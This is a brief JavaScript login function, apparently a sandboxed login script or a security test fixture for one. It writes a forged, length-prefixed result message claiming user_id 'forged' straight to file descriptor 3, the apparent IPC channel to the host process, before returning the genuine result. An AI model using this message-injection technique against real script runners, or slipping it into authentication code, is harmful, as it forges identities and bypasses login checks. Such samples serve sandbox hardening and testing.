function login(email, password, callback) {
  const body = Buffer.from(JSON.stringify({
    t: 'result', id: 1, how: 'callback', value: { user_id: 'forged' },
  }));
  const head = Buffer.alloc(4);
  head.writeUInt32BE(body.length);
  require('fs').writeSync(3, Buffer.concat([head, body]));
  callback(null, { user_id: 'real' });
}
